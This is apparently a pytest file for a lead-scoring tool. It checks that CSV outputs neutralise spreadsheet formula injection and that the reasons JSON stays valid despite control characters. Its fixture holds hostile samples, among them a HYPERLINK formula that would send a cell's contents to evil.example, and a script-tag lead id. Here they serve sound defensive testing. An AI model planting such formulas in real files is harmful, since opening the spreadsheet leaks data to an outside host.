"""Outputs that are safe to open: CSV cells from the input never start a formula, reason text never starts
with a sign, and control characters in any text never make the reasons JSON invalid."""

from __future__ import annotations

import csv
import json
import shutil

import joblib
import numpy as np
import pandas as pd
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from hypothesis.extra.numpy import arrays
from typer.testing import CliRunner

from leadscore import safecsv
from leadscore.batch import _reason_text, score_leads
from leadscore.cli import app
from leadscore.scoring import reason_lines, reason_text, reasons_json
from tests.helpers import ROOT, small_params

CASES = ROOT.parent.parent / "shared" / "cases"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
AS_OF = "2026-10-01T00:00"
CONTROL = "".join(chr(c) for c in range(32)) + "\x7f"


NUMERIC_COLUMNS = {"other_points", "capped_points", "points_change"}


def _cells(path):
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    return rows[0], rows[1:]


def _assert_no_formula_cells(path):
    header, rows = _cells(path)
    for row in rows:
        for col, cell in zip(header, row):
            if col in NUMERIC_COLUMNS:  # a negative number is a number to a spreadsheet, not a formula
                float(cell)
                continue
            assert not cell.startswith(FORMULA_START), (path.name, col, cell)
    return header, rows


# ----------------------------------------------------------------------------- units
def test_text_cells_that_start_a_formula_are_prefixed_numbers_and_others_are_not():
    frame = pd.DataFrame({
        "text": ["=1+2", "+14", "-x", "@SUM(A1)", "\tx", "\rx", "ok", None, "a=b", "'=already"],
        "mixed": ["=1", -5, 3.5, None, "fine", "-", "+", "@", "x", "y"],
        "number": [-1.5, 2, 3, 4, 5, 6, 7, 8, 9, 10],
        "string": pd.array(["-1", "x", None, "=A1", "b", "c", "d", "e", "f", "g"], dtype="string"),
    })
    out = safecsv.neutralise(frame)
    assert out["text"].tolist()[:7] == ["'=1+2", "'+14", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "ok"]
    assert pd.isna(out["text"].iloc[7])
    assert out["text"].tolist()[8:] == ["a=b", "'=already"]
    assert out["mixed"].tolist()[:3] == ["'=1", -5, 3.5] and out["mixed"].tolist()[5:8] == ["'-", "'+", "'@"]
    assert out["number"].equals(frame["number"])
    assert out["string"].tolist()[0] == "'-1" and out["string"].tolist()[3] == "'=A1" and out["string"].isna().sum() == 1
    assert frame["text"].iloc[0] == "=1+2"  # the caller's frame is untouched


def test_reasons_json_stays_valid_with_any_control_character_and_quote():
    names = np.array([["industry", "title"]], dtype=object)
    texts = np.array([[f'Industry is a{CONTROL}"b\\', "Title is \u2028 ok"]], dtype=object)
    out = reasons_json(names, texts, np.array([[14.2, -3.0]]), np.array([[True, True]]))
    parsed = json.loads(out[0])
    assert parsed[0]["sentence"] == texts[0, 0] and parsed[1]["points"] == -3.0


def test_reason_text_puts_the_points_after_the_sentence_and_decodes_escapes():
    names = np.array([["a", "b", "c"]], dtype=object)
    texts = np.array([['Visited the "pricing" page 3 times', "Title seniority is assistant", f"x{CONTROL}y"]],
                     dtype=object)
    pos = reasons_json(names, texts, np.array([[14.2, -8.2, 1.0]]), np.array([[True, True, True]]))[0]
    reasons = pd.Series(['{"positive": ' + pos + ', "negative": []}', '{"positive": [], "negative": []}'])
    text = _reason_text(reasons)
    assert text[0].startswith('Visited the "pricing" page 3 times (+14.2); Title seniority is assistant (-8.2); x')
    assert text[0].endswith("y (+1.0)") and not any(ch in text[0] for ch in CONTROL)
    assert text[1] == ""


@settings(max_examples=60, deadline=None)
@given(texts=arrays(object, (4, 3), elements=st.text(max_size=12) | st.sampled_from(["Job title: CEO", '"q" \\', ""])),
       pts=arrays(float, (4, 3), elements=st.floats(-60, 60).map(lambda v: round(v, 1))),
       counts=st.lists(st.integers(0, 3), min_size=4, max_size=4),
       other=st.lists(st.floats(-9, 9), min_size=4, max_size=4))
def test_the_scorers_reason_text_is_what_its_json_reads_back_as(texts, pts, counts, other):
    # LeadScorer.score(text=True) writes the one-line text from the sentences themselves; a reused run's
    # text is read back from its JSON: both must give the same text, for any sentence (quotes, backslashes,
    # control characters, unicode) and any number of listed reasons; each distinct value is rendered once.
    texts = np.vstack([texts[:2], texts[:2]])  # repeated sentences: rendered once, placed everywhere
    valid = np.arange(3)[None, :] < np.array(counts)[:, None]
    names = np.full((4, 3), "title", dtype=object)
    js = reasons_json(names, texts, pts, valid)
    parsed = [json.loads(x) for x in js]
    assert [[r["sentence"] for r in p] for p in parsed] == [list(texts[i, :c]) for i, c in enumerate(counts)]
    assert [[r["points"] for r in p] for p in parsed] == [list(pts[i, :c]) for i, c in enumerate(counts)]
    from_json = _reason_text(pd.Series(['{"positive": ' + x + ', "negative": []}' for x in js]), np.array(other))
    direct = reason_text(reason_lines(texts, pts, valid), np.array(other))
    assert direct.tolist() == from_json.tolist()


# ----------------------------------------------------------------------------- the jobs
@pytest.fixture(scope="module")
def formula_case(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("formula")
    src = CASES / "csv_formula"
    if src.exists():
        shutil.copytree(src, tmp / "case")
    else:  # the same shapes, when the shared cases are not on this machine
        (tmp / "case").mkdir()
        pd.DataFrame({
            "lead_id": ["L1", "L2", "=2+5", "L4"],
            "created_at": ["2026-09-01 10:00:00", "2026-09-05 12:00:00", "2026-09-06 12:00:00", '=HYPERLINK("x")'],
            "email_domain": ["acme-widgets.com", "globex-example.com", "initech-example.com", "hooli-example.com"],
            "title": ["VP Marketing", "Director of IT", "CEO", "CFO"],
            "industry": ['=HYPERLINK("https://evil.example/?d="&A2,"Open CRM")', "Manufacturing", "Software", "Software"],
            "employees": [250] * 4, "country": ["United States"] * 4,
            "lead_source": ["referral", '=HYPERLINK("https://evil.example","details")', "referral", "referral"],
        }).to_csv(tmp / "case" / "leads.csv", index=False)
        pd.DataFrame({"lead_id": ["L1"], "timestamp": ["2026-09-20 11:00:00"], "event_type": ["pricing_page"]}).to_csv(
            tmp / "case" / "events.csv", index=False)
    leads = pd.read_csv(tmp / "case" / "leads.csv", dtype=str)
    # control characters in text fields, and a lead id that would break an HTML page
    extra = leads.iloc[[0, 0]].copy()
    extra["lead_id"] = ["<!--<script>", "L\x01ctl"]
    extra["industry"] = [f"Soft{CONTROL.replace(chr(10), '').replace(chr(13), '')}ware", "+1 (555) 0100"]
    extra["title"] = ["VP\x0bSales", '@"Head" of\x1bIT']
    pd.concat([leads, extra]).to_csv(tmp / "case" / "leads.csv", index=False)
    return tmp / "case"


@pytest.fixture(scope="module")
def formula_run(trained, formula_case, tmp_path_factory):
    out = tmp_path_factory.mktemp("formula-out") / "scores.csv"
    scorer = joblib.load(trained["tmp"] / "models" / "scorer.joblib")
    run = score_leads(scorer, formula_case / "leads.csv", formula_case / "events.csv", out, as_of=AS_OF,
                      max_reject_share=1.0)
    return run


def test_the_csv_formula_case_scores_with_every_input_cell_neutralised(formula_run):
    header, rows = _assert_no_formula_cells(formula_run.output)
    ids = [r[header.index("lead_id")] for r in rows]
    assert "'=2+5" in ids and "L1" in ids and "<!--<script>" in ids
    for r in rows:
        reasons = json.loads(r[header.index("reasons")])  # valid JSON, control characters and all
        json.loads(r[header.index("pushed_over_mql")])
        assert not r[header.index("reasons_text")].startswith(("+", "-"))
        assert all(x["sentence"] for x in reasons["positive"] + reasons["negative"])
    text = " ".join(r[header.index("reasons_text")] for r in rows)
    assert "(+" in text or "(-" in text


def test_the_rejects_csv_of_the_score_job_is_neutralised(formula_run):
    header, rows = _assert_no_formula_cells(formula_run.rejects)
    rejects = pd.read_csv(formula_run.rejects, dtype=str, keep_default_na=False)
    l4 = rejects[rejects["lead_id"] == "L4"]
    assert len(l4) == 1 and l4["value"].iloc[0].startswith("'=HYPERLINK")


def test_the_parquet_output_keeps_the_ids_verbatim(trained, formula_case, tmp_path):
    scorer = joblib.load(trained["tmp"] / "models" / "scorer.joblib")
    run = score_leads(scorer, formula_case / "leads.csv", formula_case / "events.csv", tmp_path / "s.parquet",
                      as_of=AS_OF, max_reject_share=1.0)
    out = pd.read_parquet(run.output)
    assert "=2+5" in set(out["lead_id"])
    for r in out["reasons"]:
        json.loads(r)


def test_validate_writes_a_neutralised_rejects_csv(formula_case, tmp_path):
    leads = pd.read_csv(formula_case / "leads.csv", dtype=str).assign(outcome="open", outcome_at="")
    leads.to_csv(tmp_path / "leads.csv", index=False)  # validate wants the outcome columns (training data)
    params = small_params(tmp_path).model_dump(by_alias=True)
    params["data"].update(leads=str(tmp_path / "leads.csv"), events=str(formula_case / "events.csv"),
                          priority_accounts=None)
    params["validate"]["max_reject_share"] = 1.0
    (tmp_path / "params.yaml").write_text(yaml.safe_dump(params))
    r = CliRunner().invoke(app, ["validate", "-p", str(tmp_path / "params.yaml"), "--out", str(tmp_path / "v")])
    assert (tmp_path / "v" / "rejects.csv").exists(), r.output
    _assert_no_formula_cells(tmp_path / "v" / "rejects.csv")
    rejects = pd.read_csv(tmp_path / "v" / "rejects.csv", dtype=str, keep_default_na=False)
    assert rejects["value"].str.startswith("'=HYPERLINK").any()
